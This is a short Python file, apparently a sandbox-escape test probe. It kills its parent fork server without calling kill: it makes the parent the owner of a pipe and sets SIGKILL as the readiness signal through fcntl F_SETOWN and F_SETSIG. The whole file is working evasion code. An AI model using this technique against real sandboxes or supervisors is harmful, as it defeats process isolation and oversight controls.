"""Kill the fork server without kill: as the owner of a pipe whose data are announced by SIGKILL.

fcntl's F_SETOWN names who is told that a descriptor is ready, F_SETSIG by which signal.
"""

import fcntl
import os
import signal

FAMILY = "signals"
F_SETSIG = 10


def attack(world):
    parent = os.getppid()
    if not parent:
        raise ProcessLookupError("the parent is not to be seen")
    out, into = os.pipe()
    fcntl.fcntl(out, fcntl.F_SETOWN, parent)
    fcntl.fcntl(out, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(out, fcntl.F_SETFL, fcntl.fcntl(out, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(into, b"x")
    return "sent"
